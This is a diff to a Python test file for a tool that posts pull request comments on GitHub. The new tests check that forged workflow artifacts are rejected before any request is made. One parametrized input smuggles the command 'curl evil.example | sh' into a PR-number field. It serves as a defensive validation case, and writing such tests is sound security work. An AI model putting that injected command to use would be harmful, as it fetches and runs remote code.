@@ -21,6 +21,7 @@ from impact.github import MARKER, GitHub, GitHubError, comment_body, post_report
 
 TOKEN = "ghs_s3cr3tTokenValue0123456789abcdef"
 REPO = "acme/nixpkgs"
+HEAD = "0123456789abcdef0123456789abcdef01234567"
 
 
 class FakeGitHub:
@@ -33,6 +34,7 @@ class FakeGitHub:
         self.requests: list[tuple[str, str]] = []
         self.auth_seen: list[str] = []
         self.next_id = 100
+        self.head_sha = HEAD
         self.lock = threading.Lock()
 
 
@@ -63,6 +65,8 @@ def make_handler(state: FakeGitHub) -> type[BaseHTTPRequestHandler]:
                 if state.failures:
                     status, headers = state.failures.pop(0)
                     return self._send(status, {"message": "scripted failure"}, headers)
+                if method == "GET" and re.fullmatch(f"/repos/{REPO}/pulls/5", path):
+                    return self._send(200, {"number": 5, "head": {"sha": state.head_sha}})
                 base = f"/repos/{REPO}/issues"
                 if method == "GET" and (m := re.fullmatch(base + r"/(\d+)/comments", path)):
                     return self._send(200, state.comments)
@@ -226,3 +230,93 @@ def test_comment_body_has_marker_and_limit() -> None:
     assert comment_body("hi").startswith(MARKER)
     long = comment_body(MARKER + "x" * 70_000)
     assert len(long) == 65536 and "cut to fit" in long
+
+
+# -- the workflow_run path: the pull request number and head commit come from an artifact a fork could forge --
+
+
+def run_from_artifact(url: str, report: Path, monkeypatch: pytest.MonkeyPatch, head: str = HEAD) -> int:
+    monkeypatch.setenv("GITHUB_TOKEN", TOKEN)
+    return main(["post", "--pr-file", str(report / "pr-number"), "--head-sha", head, "--repo", REPO,
+                 "--api-url", url, "--report", str(report)])
+
+
+def writes(state: FakeGitHub) -> list[tuple[str, str]]:
+    return [r for r in state.requests if r[0] != "GET"]
+
+
+def test_pr_number_and_head_from_the_artifact(
+    server: tuple[FakeGitHub, str], report: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str],
+) -> None:
+    state, url = server
+    (report / "pr-number").write_text("5\n")
+    (report / "head-sha").write_text(HEAD + "\n")
+    assert run_from_artifact(url, report, monkeypatch) == 0
+    assert capsys.readouterr().out.startswith("created comment 101 on acme/nixpkgs#5")
+    assert state.requests[0] == ("GET", f"/repos/{REPO}/pulls/5")  # the head is checked before anything is written
+    assert ("POST", f"/repos/{REPO}/issues/5/comments") in state.requests
+
+
+def test_a_pull_request_that_moved_on_gets_nothing(
+    server: tuple[FakeGitHub, str], report: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str],
+) -> None:
+    state, url = server
+    state.head_sha = "f" * 40  # pushed to after the evaluation, or the artifact named another pull request
+    (report / "pr-number").write_text("5\n")
+    (report / "head-sha").write_text(HEAD + "\n")
+    assert run_from_artifact(url, report, monkeypatch) == 2
+    err = capsys.readouterr().err.strip().splitlines()
+    assert len(err) == 1 and "nothing posted" in err[0] and "f" * 40 in err[0]
+    assert state.requests == [("GET", f"/repos/{REPO}/pulls/5")] and writes(state) == []
+
+
+@pytest.mark.parametrize(
+    "pr_number, head_file, reason",
+    [
+        ("5; curl evil.example | sh\n", HEAD, "is not a pull request number"),
+        ("05\n", HEAD, "is not a pull request number"),
+        ("-5\n", HEAD, "is not a pull request number"),
+        ("5\n6\n", HEAD, "is not a pull request number"),
+        ("", HEAD, "is not a pull request number"),
+        ("5" * 200, HEAD, "not a pull request number"),
+        ("5\n", "1" * 40, "the report is for commit"),
+        ("5\n", None, "cannot read a commit SHA"),
+    ],
+)
+def test_a_forged_artifact_is_refused_before_any_request(
+    server: tuple[FakeGitHub, str], report: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str],
+    pr_number: str, head_file: str | None, reason: str,
+) -> None:
+    state, url = server
+    (report / "pr-number").write_text(pr_number)
+    if head_file is not None:
+        (report / "head-sha").write_text(head_file + "\n")
+    assert run_from_artifact(url, report, monkeypatch) == 2
+    err = capsys.readouterr().err
+    assert reason in err and len(err.strip().splitlines()) == 1 and "Traceback" not in err
+    assert state.requests == []
+
+
+def test_head_sha_must_be_a_sha(server: tuple[FakeGitHub, str], report: Path, monkeypatch: pytest.MonkeyPatch,
+                                capsys: pytest.CaptureFixture[str]) -> None:
+    state, url = server
+    (report / "pr-number").write_text("5\n")
+    (report / "head-sha").write_text("main\n")
+    assert run_from_artifact(url, report, monkeypatch, head="main") == 2
+    assert "is not a commit SHA" in capsys.readouterr().err and state.requests == []
+
+
+def test_labels_outside_rebuild_are_refused(server: tuple[FakeGitHub, str], report: Path, monkeypatch: pytest.MonkeyPatch,
+                                            capsys: pytest.CaptureFixture[str]) -> None:
+    state, url = server
+    (report / "report.json").write_text(json.dumps({"labels": ["10.rebuild-linux: 1-10", "merge-ready"]}))
+    assert run_post(url, report, monkeypatch) == 2
+    assert "labels must be a list of 10.rebuild-* names" in capsys.readouterr().err and state.requests == []
+
+
+@pytest.mark.parametrize("given", [[], ["--pr", "5", "--pr-file", "pr-number"]])
+def test_pr_given_exactly_once(report: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str],
+                               given: list[str]) -> None:
+    monkeypatch.setenv("GITHUB_TOKEN", TOKEN)
+    assert main(["post", *given, "--repo", REPO, "--api-url", "http://127.0.0.1:9", "--report", str(report)]) == 2
+    assert "--pr N or as --pr-file FILE" in capsys.readouterr().err
